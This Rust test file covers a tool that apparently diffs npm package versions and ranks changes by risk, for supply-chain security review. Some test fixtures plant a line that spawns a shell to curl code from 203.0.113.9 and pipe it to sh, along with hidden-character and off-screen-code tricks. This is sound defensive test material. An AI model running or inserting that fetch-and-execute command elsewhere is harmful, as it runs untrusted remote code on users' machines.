//! Whole packages compared, from small texts made here.

use std::sync::Arc;
use std::time::Duration;

use super::*;
use crate::behavior::Reading;
use crate::package::{Entry, File, Loss, Manifest, Package, Phase, Skip, Target};
use crate::text::{Hint, Source, Span};

/// A package of these files, without entries.
pub(super) fn package(root: &str, ecosystem: Ecosystem, files: &[(&str, &str)]) -> Package {
    let mut files: Vec<File> = files
        .iter()
        .map(|(path, text)| File {
            path: (*path).to_owned(),
            bytes: text.as_bytes().into(),
            source: Source::decode(text.as_bytes(), Hint::Python).map(Arc::new),
        })
        .collect();
    files.sort_by(|a, b| a.path.cmp(&b.path));
    Package {
        path: "x.tgz".to_owned(),
        archive: String::new(),
        sha256: String::new(),
        size: 0,
        ecosystem,
        name: Some("demo".to_owned()),
        version: Some("1.0".to_owned()),
        root: root.to_owned(),
        tops: Vec::new(),
        files,
        manifest: Manifest::default(),
        entries: Vec::new(),
        oddities: Vec::new(),
        skipped: Vec::new(),
    }
}

fn case(package: Package) -> Case {
    Case::read(Arc::new(package), Duration::ZERO, &Reading::default())
}

/// An npm package whose main file is `index.js`.
fn npm(files: &[(&str, &str)]) -> Package {
    let paths: Vec<(String, &str)> = files.iter().map(|(path, text)| (format!("package/{path}"), *text)).collect();
    let files: Vec<(&str, &str)> = paths.iter().map(|(path, text)| (path.as_str(), *text)).collect();
    let mut package = package("package/", Ecosystem::Npm, &files);
    if let Some(main) = package.by_path("package/index.js") {
        package.entries = vec![Entry { phase: Phase::Import, name: "main".to_owned(), target: Target::File(main) }];
    }
    package
}

fn diff(old: &[(&str, &str)], new: &[(&str, &str)]) -> Diff {
    Diff::of(&case(npm(old)), &case(npm(new)))
}

#[test]
fn equal_packages_have_no_differences() {
    let files = [("index.js", "module.exports = 1;\n"), ("package.json", "{}")];
    let diff = diff(&files, &files);
    assert_eq!((diff.files.len(), diff.hunks.len(), diff.same), (0, 0, 2));
    assert!(!diff.behaves_anew() && diff.skipped.is_empty());
    assert_eq!(diff.summary(), "since 1.0: nothing that counts changed");
}

#[test]
fn hunks_stand_by_risk_and_not_by_name_or_size() {
    let long: String = (0..100).map(|n| format!("exports.a{n} = {n};\n")).collect();
    let old =
        [("a.js", "exports.a = 1;\n"), ("index.js", "require('./a'); require('./z');\n"), ("z.js", "exports.z = 1;\n")];
    let evil = "exports.z = 1;\nrequire('child_process').exec('curl http://203.0.113.9/x | sh');\n";
    let new = [("a.js", long.as_str()), ("index.js", "require('./a'); require('./z');\n"), ("z.js", evil)];
    let diff = diff(&old, &new);
    let first = &diff.hunks[0];
    assert_eq!(diff.files[first.file].risk, diff.files[0].risk);
    assert!(first.reasons.iter().any(|reason| reason.what.contains("203[.]0[.]113[.]9")), "{:?}", first.reasons);
    assert!(diff.hunks.windows(2).all(|two| two[0].risk >= two[1].risk));
    assert_eq!(diff.news.hosts, ["203.0.113.9"]);
    assert!(diff.behaves_anew() && !diff.news.steps.is_empty());
}

#[test]
fn a_thousand_harmless_places_do_not_outrank_one_that_steals() {
    let lines = |value: usize| -> String {
        // Unchanged lines between them keep the places apart.
        (0..1000).map(|n| format!("exports.a{n} = {value};\n{}", "f();\n".repeat(8))).collect()
    };
    let (was, is) = (lines(1), lines(2));
    let evil = "exports.z = 1;\nrequire('child_process').exec('curl http://203.0.113.9/x | sh');\n";
    let old = [("a.js", was.as_str()), ("index.js", "require('./a'); require('./z');\n"), ("z.js", "exports.z = 1;\n")];
    let new = [("a.js", is.as_str()), ("index.js", "require('./a'); require('./z');\n"), ("z.js", evil)];
    let (old, new) = (case(npm(&old)), case(npm(&new)));
    let diff = Diff::of(&old, &new);
    assert!(diff.hunks.len() > 500, "{} places", diff.hunks.len());
    let paths: Vec<&str> = diff.files.iter().map(|file| file.path(&old.package, &new.package)).collect();
    assert_eq!(paths, ["package/z.js", "package/a.js"]);
    assert_eq!(diff.files[0].risk, diff.hunks[0].risk);
}

#[test]
fn what_only_looks_different_is_folded_and_still_there() {
    let old = [("index.js", "(function (a, b) { return f(a, 'x') + b; })(1, 2);\n")];
    let formatted = diff(&old, &[("index.js", "(function (a, b) {\n  return f(a, \"x\") + b;\n})(1, 2)\n")]);
    let renamed = diff(&old, &[("index.js", "(function(x,y){return f(x,'x')+y})(1,2)\n")]);
    for (diff, fold) in [(formatted, Fold::Formatting), (renamed, Fold::Renaming)] {
        assert_eq!(diff.files[0].fold, Some(fold));
        assert_eq!((diff.folded(), diff.hunks.len()), (1, 1));
        assert!(!diff.hunks[0].rows.is_empty());
    }
}

#[test]
fn code_pushed_off_the_screen_is_not_formatting() {
    let far = format!("f();{}g();\n", " ".repeat(400));
    let diff = diff(&[("index.js", "f(); g();\n")], &[("index.js", &far)]);
    assert_eq!((diff.files[0].fold, diff.news.evidence.len()), (None, 1));
    assert!(diff.hunks[0].risk > 100);
}

#[test]
fn new_hidden_characters_are_news() {
    let old = [("index.js", "const a = 'b';\n")];
    let diff = diff(&old, &[("index.js", "const a = 'b\u{202E}';\n")]);
    assert_eq!(diff.news.evidence.len(), 1);
    assert!(diff.hunks[0].reasons.iter().any(|reason| reason.what == "new evidence: hidden"));
}

#[test]
fn a_file_that_was_not_read_is_never_the_same() {
    let mut old = npm(&[("big.js", "")]);
    old.skipped.push(Skip::new(Loss::Member, "package/big.js", "too large"));
    let new = npm(&[("big.js", "")]);
    let diff = Diff::of(&case(old), &case(new));
    assert_eq!((diff.files.len(), diff.same), (1, 0));
    assert_eq!(diff.files[0].cut.as_deref(), Some("its content was not read"));
    assert_eq!(diff.skipped[0].reason, "old version: too large");
}

#[test]
fn files_of_a_repository_only_are_folded_and_those_of_the_package_only_are_not() {
    let old = package(
        "demo-main/",
        Ecosystem::Npm,
        &[("demo-main/.gitignore", "x"), ("demo-main/test/a.js", "test()"), ("demo-main/index.js", "1")],
    );
    let new = npm(&[("index.js", "1"), ("extra.js", "2")]);
    let diff = Diff::of(&case(old), &case(new));
    assert_eq!(diff.layout, Layout::RepositoryAndPackage);
    let shown: Vec<_> = diff.files.iter().map(|file| (file.change, file.fold)).collect();
    assert_eq!(shown[0], (Change::Added, None));
    assert!(shown[1..].iter().all(|file| *file == (Change::Removed, Some(Fold::OtherLayout))));
}

#[test]
fn entries_and_dependencies_that_came_or_changed_are_told() {
    let shell = |text: &str| Target::Shell { file: 0, span: Span::default(), text: text.to_owned() };
    let entry = |name: &str, text: &str| Entry { phase: Phase::Install, name: name.to_owned(), target: shell(text) };
    let mut old = npm(&[("package.json", "{}")]);
    old.entries = vec![entry("install", "node-gyp rebuild"), entry("prepare", "tsc")];
    old.manifest.dependencies = vec![("left".to_owned(), "^1".to_owned()), ("gone".to_owned(), "1".to_owned())];
    let mut new = npm(&[("package.json", "{ }")]);
    new.entries = vec![entry("install", "node setup.js"), entry("postinstall", "node x.js")];
    new.manifest.dependencies =
        vec![("left".to_owned(), "git+https://left.example/l".to_owned()), ("more".to_owned(), "2".to_owned())];
    let diff = Diff::of(&case(old), &case(new));
    let entries: Vec<_> =
        diff.news.entries.iter().map(|e| (e.name.as_str(), e.old.is_some(), e.new.is_some())).collect();
    assert_eq!(entries, [("install", true, true), ("postinstall", false, true), ("prepare", true, false)]);
    let dependencies: Vec<_> = diff.news.dependencies.iter().map(|d| (d.name.as_str(), d.by_address)).collect();
    assert_eq!(dependencies, [("left", true), ("more", false), ("gone", false)]);
    assert!(diff.summary().contains("2 new or changed entries"), "{}", diff.summary());
}

#[test]
fn a_diff_reads_back_as_it_was_written() {
    let diff = diff(&[("index.js", "a()\n")], &[("index.js", "b()\n"), ("n.js", "c()\n")]);
    let text = serde_json::to_string(&diff).unwrap();
    assert_eq!(serde_json::from_str::<Diff>(&text).unwrap(), diff);
}
